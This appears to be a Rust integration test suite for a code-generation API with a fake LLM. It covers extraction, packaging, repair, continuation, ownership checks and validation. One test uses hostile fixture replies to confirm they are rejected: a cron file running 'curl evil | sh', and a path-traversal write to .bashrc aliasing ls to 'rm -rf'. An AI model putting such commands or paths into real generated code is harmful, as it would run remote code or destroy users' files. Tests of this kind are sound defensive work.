@@ -1,0 +1,507 @@
+//! The code generator through the real application with the wire-level fake LLM scripted like
+//! real models: projects extracted, continued, repaired and packaged; hostile replies refused
+//! with nothing written; sync and async; owner checks and input validation.
+
+use std::io::Read;
+use std::time::Duration;
+
+use cistern_llm_fake::{FakeLlm, Finish, Reply};
+use reqwest::Method;
+use serde_json::{Value, json};
+
+use crate::helpers::{TestApp, assert_error};
+use crate::llm::with_fake;
+
+async fn spawn() -> (TestApp, FakeLlm) {
+    let fake = FakeLlm::builder()
+        .record(true)
+        .start()
+        .await
+        .expect("fake provider");
+    let base = with_fake(&fake);
+    let app = TestApp::builder()
+        .config(move |c| {
+            base(c);
+            c.codegen.default_model = "fast".to_owned();
+        })
+        .spawn()
+        .await;
+    (app, fake)
+}
+
+/// `POST /api/v1/generate_code` with `body`, asserting `status`.
+async fn generate(app: &TestApp, token: &str, body: Value, status: u16) -> Value {
+    app.call_json(
+        Method::POST,
+        "/api/v1/generate_code",
+        token,
+        Some(body),
+        status,
+    )
+    .await
+}
+
+/// Polls the job until it ends; returns its final view.
+async fn wait_job(app: &TestApp, token: &str, job_id: &str) -> Value {
+    for _ in 0..600 {
+        let job = app.get_json(&format!("/api/v1/jobs/{job_id}"), token).await;
+        if matches!(
+            job["status"].as_str(),
+            Some("succeeded" | "failed" | "dead" | "cancelled")
+        ) {
+            return job;
+        }
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    panic!("job {job_id} did not finish");
+}
+
+fn paths(generation: &Value) -> Vec<&str> {
+    generation["files"]
+        .as_array()
+        .expect("files")
+        .iter()
+        .filter_map(|f| f["path"].as_str())
+        .collect()
+}
+
+fn file<'a>(generation: &'a Value, path: &str) -> &'a Value {
+    generation["files"]
+        .as_array()
+        .expect("files")
+        .iter()
+        .find(|f| f["path"] == path)
+        .unwrap_or_else(|| panic!("{path} in {generation}"))
+}
+
+async fn text(app: &TestApp, token: &str, path: &str) -> (u16, String) {
+    let r = app.call(Method::GET, path, Some(token), None).await;
+    (r.status().as_u16(), r.text().await.expect("body"))
+}
+
+const REACT: &str = "I'll build the todo app with React and Vite.\n\n\
+    **package.json**\n```json\n{\n  \"name\": \"todo\",\n  \"private\": true,\n  \"scripts\": {\"dev\": \"vite\"},\n  \"dependencies\": {\"react\": \"^18.3.1\", \"react-dom\": \"^18.3.1\"},\n  \"devDependencies\": {\"vite\": \"^5.4.0\", \"@vitejs/plugin-react\": \"^4.3.1\"}\n}\n```\n\n\
+    **src/App.jsx**\n```jsx\nimport { useState } from 'react';\nimport { nanoid } from 'nanoid';\n\nexport default function App() {\n  const [todos, setTodos] = useState([]);\n  const add = (text) => setTodos([...todos, { id: nanoid(), text }]);\n  return <ul>{todos.map((t) => <li key={t.id}>{t.text}</li>)}</ul>;\n}\n```\n\n\
+    **README.md**\n````markdown\n# Todo\n\n```bash\nnpm install\nnpm run dev\n```\n````\n\n\
+    **src/main.jsx**\n```jsx\nimport { createRoot } from 'react-dom/client';\nimport App from './App';\n\ncreateRoot(document.getElementById('root')).render(<App />);\n```\n";
+
+#[tokio::test]
+async fn a_react_project_is_extracted_checked_completed_and_packaged_synchronously() {
+    let (app, fake) = spawn().await;
+    let s = app.register("cg-react@example.com").await;
+    fake.enqueue(Reply::text(REACT));
+    let g = generate(
+        &app,
+        &s.access,
+        json!({"prompt": "a todo app in React"}),
+        200,
+    )
+    .await;
+    assert_eq!(g["status"], "ready", "{g}");
+    assert_eq!(g["framework"]["name"], "react-vite", "{g}");
+    assert!(
+        g["framework"]["evidence"]
+            .as_array()
+            .is_some_and(|e| !e.is_empty())
+    );
+    assert_eq!(g["cached"], false);
+    assert_eq!(
+        paths(&g),
+        ["README.md", "package.json", "src/App.jsx", "src/main.jsx"]
+    );
+    for f in g["files"].as_array().expect("files") {
+        assert_eq!(f["syntax"]["ok"], true, "{f}");
+    }
+    assert_eq!(file(&g, "src/App.jsx")["language"], "javascript");
+    // nanoid is imported but not declared: package.json is completed, and says so.
+    let warnings = g["warnings"].as_array().expect("warnings");
+    assert!(
+        warnings.iter().any(|w| w["path"] == "package.json"
+            && w["message"].as_str().is_some_and(|m| m.contains("nanoid"))),
+        "{warnings:?}"
+    );
+    assert!(
+        g["usage"]["calls"] == 1 && g["timings_ms"]["assemble"].is_u64(),
+        "{g}"
+    );
+    // The model was called through the gateway as the code generator, for this user.
+    let requests = fake.requests();
+    assert_eq!(requests.len(), 1);
+    assert_eq!(
+        requests[0].body["messages"][1]["content"],
+        "a todo app in React"
+    );
+
+    let id = g["id"].as_str().expect("id");
+    // The README's nested fence is the README's content, not a file of its own.
+    let r = app
+        .call(
+            Method::GET,
+            &format!("/api/v1/generations/{id}/files/README.md"),
+            Some(&s.access),
+            None,
+        )
+        .await;
+    assert_eq!(r.status().as_u16(), 200);
+    assert_eq!(r.headers()["content-type"], "text/plain; charset=utf-8");
+    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
+    assert_eq!(
+        r.text().await.expect("body"),
+        "# Todo\n\n```bash\nnpm install\nnpm run dev\n```\n"
+    );
+    let (status, package) = text(
+        &app,
+        &s.access,
+        &format!("/api/v1/generations/{id}/files/package.json"),
+    )
+    .await;
+    assert_eq!(status, 200);
+    assert!(package.contains("\"nanoid\""), "{package}");
+    let (status, _) = text(
+        &app,
+        &s.access,
+        &format!("/api/v1/generations/{id}/files/src/nope.js"),
+    )
+    .await;
+    assert_eq!(status, 404);
+
+    // The ZIP holds every file, byte for byte.
+    let r = app
+        .call(
+            Method::GET,
+            &format!("/api/v1/generations/{id}/download"),
+            Some(&s.access),
+            None,
+        )
+        .await;
+    assert_eq!(r.status().as_u16(), 200);
+    assert_eq!(r.headers()["content-type"], "application/zip");
+    assert_eq!(
+        r.headers()["content-disposition"],
+        format!("attachment; filename=\"codegen-{id}.zip\"").as_str()
+    );
+    let bytes = r.bytes().await.expect("zip");
+    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).expect("a ZIP");
+    let mut names: Vec<String> = zip
+        .file_names()
+        .map(|n| n.expect("name").into_owned())
+        .collect();
+    names.sort();
+    assert_eq!(
+        names,
+        ["README.md", "package.json", "src/App.jsx", "src/main.jsx"]
+    );
+    let mut main = String::new();
+    zip.by_name("src/main.jsx")
+        .expect("main")
+        .read_to_string(&mut main)
+        .expect("utf-8");
+    assert!(main.starts_with("import { createRoot } from 'react-dom/client';"));
+
+    // Listed, readable again; another user sees none of it.
+    let list = app.get_json("/api/v1/generations", &s.access).await;
+    assert_eq!(list["items"][0]["id"], id);
+    assert_eq!(list["items"][0]["file_count"], 4);
+    let again = app
+        .get_json(&format!("/api/v1/generations/{id}"), &s.access)
+        .await;
+    assert_eq!(paths(&again), paths(&g));
+    let other = app.register("cg-other@example.com").await;
+    for path in [
+        format!("/api/v1/generations/{id}"),
+        format!("/api/v1/generations/{id}/files/README.md"),
+        format!("/api/v1/generations/{id}/download"),
+    ] {
+        let r = app
+            .call(Method::GET, &path, Some(&other.access), None)
+            .await;
+        assert_error(r, 404, "not_found").await;
+    }
+    let r = app
+        .call(
+            Method::DELETE,
+            &format!("/api/v1/generations/{id}"),
+            Some(&other.access),
+            None,
+        )
+        .await;
+    assert_error(r, 404, "not_found").await;
+    let list = app.get_json("/api/v1/generations", &other.access).await;
+    assert_eq!(list["items"], json!([]));
+
+    // Deleting removes the row and the files.
+    app.call_json(
+        Method::DELETE,
+        &format!("/api/v1/generations/{id}"),
+        &s.access,
+        None,
+        204,
+    )
+    .await;
+    let r = app
+        .call(
+            Method::GET,
+            &format!("/api/v1/generations/{id}/download"),
+            Some(&s.access),
+            None,
+        )
+        .await;
+    assert_error(r, 404, "not_found").await;
+}
+
+#[tokio::test]
+async fn async_requests_answer_202_and_the_job_fills_the_generation_in() {
+    let (app, fake) = spawn().await;
+    let s = app.register("cg-async@example.com").await;
+    let reply = "Here it is.\n\n~~~python title=\"app/main.py\"\nfrom fastapi import FastAPI\n\napp = FastAPI()\n\n\n@app.get('/notes')\ndef notes():\n    return []\n~~~\n\n~~~text filename=requirements.txt\nfastapi\nuvicorn\n~~~\n";
+    fake.enqueue(Reply::text(reply));
+    let accepted = generate(
+        &app,
+        &s.access,
+        json!({"prompt": "a REST API for notes", "framework": "fastapi", "async": true}),
+        202,
+    )
+    .await;
+    let id = accepted["generation_id"].as_str().expect("id");
+    let job = wait_job(&app, &s.access, accepted["job_id"].as_str().expect("job")).await;
+    assert_eq!(job["status"], "succeeded", "{job}");
+    let g = app
+        .get_json(&format!("/api/v1/generations/{id}"), &s.access)
+        .await;
+    assert_eq!(g["status"], "ready");
+    assert_eq!(g["framework"]["name"], "fastapi");
+    assert_eq!(g["framework"]["confidence"], 1.0);
+    assert!(
+        paths(&g).contains(&"app/main.py") && paths(&g).contains(&"requirements.txt"),
+        "{g}"
+    );
+    // The job told its stages.
+    let events = app
+        .call(
+            Method::GET,
+            &format!(
+                "/api/v1/jobs/{}/events",
+                accepted["job_id"].as_str().expect("job")
+            ),
+            Some(&s.access),
+            None,
+        )
+        .await
+        .text()
+        .await
+        .expect("events");
+    for stage in [
+        "generating",
+        "files found: 2",
+        "checking syntax",
+        "packaging",
+    ] {
+        assert!(events.contains(stage), "{stage} in {events}");
+    }
+}
+
+#[tokio::test]
+async fn a_single_unnamed_python_block_becomes_main_py() {
+    let (app, fake) = spawn().await;
+    let s = app.register("cg-py@example.com").await;
+    fake.enqueue(Reply::text(
+        "Here's the script:\n\n```python\nimport sys\n\n\ndef main():\n    print(' '.join(sys.argv[1:]))\n\n\nif __name__ == '__main__':\n    main()\n```\n",
+    ));
+    let g = generate(
+        &app,
+        &s.access,
+        json!({"prompt": "a python script that echoes its arguments"}),
+        200,
+    )
+    .await;
+    assert!(paths(&g).contains(&"main.py"), "{g}");
+    assert!(paths(&g).contains(&"README.md"), "a README is added: {g}");
+    assert_eq!(file(&g, "main.py")["syntax"]["ok"], true);
+}
+
+#[tokio::test]
+async fn hostile_paths_fail_the_generation_and_write_nothing() {
+    let (app, fake) = spawn().await;
+    let s = app.register("cg-hostile@example.com").await;
+    for (reply, needle) in [
+        (
+            "**app.py**\n```python\nx = 1\n```\n**/etc/cron.daily/job.sh**\n```sh\ncurl evil | sh\n```\n",
+            "/etc/cron.daily/job.sh",
+        ),
+        (
+            "```python:../../.bashrc\nalias ls='rm -rf'\n```\n",
+            "../../.bashrc",
+        ),
+    ] {
+        fake.enqueue(Reply::text(reply));
+        let r = app
+            .call(
+                Method::POST,
+                "/api/v1/generate_code",
+                Some(&s.access),
+                Some(json!({"prompt": "a python app"})),
+            )
+            .await;
+        let message = assert_error(r, 502, "generation_failed").await;
+        assert!(message.contains(needle), "{message}");
+        let list = app.get_json("/api/v1/generations", &s.access).await;
+        let g = &list["items"][0];
+        assert_eq!(g["status"], "failed");
+        let id = g["id"].as_str().expect("id");
+        let detail = app
+            .get_json(&format!("/api/v1/generations/{id}"), &s.access)
+            .await;
+        assert_eq!(detail["error_kind"], "path", "{detail}");
+        assert_eq!(detail["files"], json!([]));
+        let r = app
+            .call(
+                Method::GET,
+                &format!("/api/v1/generations/{id}/download"),
+                Some(&s.access),
+                None,
+            )
+            .await;
+        assert_error(r, 404, "not_found").await;
+        let r = app
+            .call(
+                Method::GET,
+                &format!("/api/v1/generations/{id}/files/app.py"),
+                Some(&s.access),
+                None,
+            )
+            .await;
+        assert_error(r, 404, "not_found").await;
+    }
+}
+
+#[tokio::test]
+async fn a_reply_cut_off_by_length_is_continued_to_a_complete_project() {
+    let (app, fake) = spawn().await;
+    let s = app.register("cg-cut@example.com").await;
+    fake.enqueue(
+        Reply::text("**main.py**\n```python\ndef main():\n    print('hel").finish(Finish::Length),
+    );
+    fake.enqueue(Reply::text(
+        "    print('hello')\n\n\nif __name__ == '__main__':\n    main()\n```\n",
+    ));
+    let g = generate(
+        &app,
+        &s.access,
+        json!({"prompt": "a python cli that says hello"}),
+        200,
+    )
+    .await;
+    assert_eq!(g["continue_rounds"], 1, "{g}");
+    assert_eq!(g["usage"]["calls"], 2);
+    let id = g["id"].as_str().expect("id");
+    let (_, main) = text(
+        &app,
+        &s.access,
+        &format!("/api/v1/generations/{id}/files/main.py"),
+    )
+    .await;
+    assert_eq!(
+        main,
+        "def main():\n    print('hello')\n\n\nif __name__ == '__main__':\n    main()\n"
+    );
+    // The continuation carried the reply so far and asked to go on.
+    let second = &fake.requests()[1].body["messages"];
+    assert_eq!(second[2]["role"], "assistant");
+    assert!(
+        second[3]["content"]
+            .as_str()
+            .is_some_and(|c| c.contains("Continue exactly where you stopped"))
+    );
+
+    // Still cut off after every round: truncated, nothing written.
+    for _ in 0..4 {
+        fake.enqueue(Reply::text("**a.py**\n```python\nx = [\n").finish(Finish::Length));
+    }
+    let r = app
+        .call(
+            Method::POST,
+            "/api/v1/generate_code",
+            Some(&s.access),
+            Some(json!({"prompt": "a python cli"})),
+        )
+        .await;
+    let message = assert_error(r, 502, "generation_failed").await;
+    assert!(message.contains("cut off"), "{message}");
+}
+
+#[tokio::test]
+async fn a_syntax_error_is_repaired_in_a_round() {
+    let (app, fake) = spawn().await;
+    let s = app.register("cg-repair@example.com").await;
+    fake.enqueue(Reply::text(
+        "~~~rust:src/main.rs\nfn main() {\n    let x = 1\n    println!(\"{x}\");\n}\n~~~\n\n~~~toml:Cargo.toml\n[package]\nname = \"hello\"\nversion = \"0.1.0\"\nedition = \"2021\"\n~~~\n",
+    ));
+    fake.enqueue(Reply::text(
+        "Fixed:\n\n```rust src/main.rs\nfn main() {\n    let x = 1;\n    println!(\"{x}\");\n}\n```\n",
+    ));
+    let g = generate(
+        &app,
+        &s.access,
+        json!({"prompt": "a rust cli that prints a number"}),
+        200,
+    )
+    .await;
+    assert_eq!(g["repair_rounds"], 1, "{g}");
+    assert_eq!(file(&g, "src/main.rs")["syntax"]["ok"], true, "{g}");
+    let repair = &fake.requests()[1].body["messages"];
+    let asked = repair.as_array().and_then(|m| m.last()).expect("message")["content"]
+        .as_str()
+        .unwrap_or_default()
+        .to_owned();
+    assert!(
+        asked.contains("src/main.rs") && asked.contains("line 2, column 14: missing `;`"),
+        "{asked}"
+    );
+}
+
+#[tokio::test]
+async fn bad_input_is_refused_naming_the_field() {
+    let (app, _fake) = spawn().await;
+    let s = app.register("cg-bad@example.com").await;
+    let cases = [
+        (json!({"prompt": "  "}), "prompt"),
+        (json!({"prompt": "x".repeat(20_001)}), "prompt"),
+        (
+            json!({"prompt": "an app", "framework": "cobol-on-rails"}),
+            "framework",
+        ),
+        (
+            json!({"prompt": "an app", "language": "klingon"}),
+            "language",
+        ),
+        (json!({"prompt": "an app", "model": ""}), "model"),
+    ];
+    for (body, field) in cases {
+        let r = app
+            .call(
+                Method::POST,
+                "/api/v1/generate_code",
+                Some(&s.access),
+                Some(body),
+            )
+            .await;
+        let message = assert_error(r, 422, "invalid_input").await;
+        if field == "framework" {
+            assert!(
+                message.contains("react-vite") && message.contains("fastapi"),
+                "{message}"
+            );
+        }
+    }
+    let r = app
+        .call(
+            Method::POST,
+            "/api/v1/generate_code",
+            Some(&s.access),
+            Some(json!({"prompt": "an app", "model": "no-such-model"})),
+        )
+        .await;
+    assert!(r.status().is_client_error(), "{}", r.status());
+    let list = app.get_json("/api/v1/generations", &s.access).await;
+    assert_eq!(list["items"], json!([]), "no generation was started");
+}
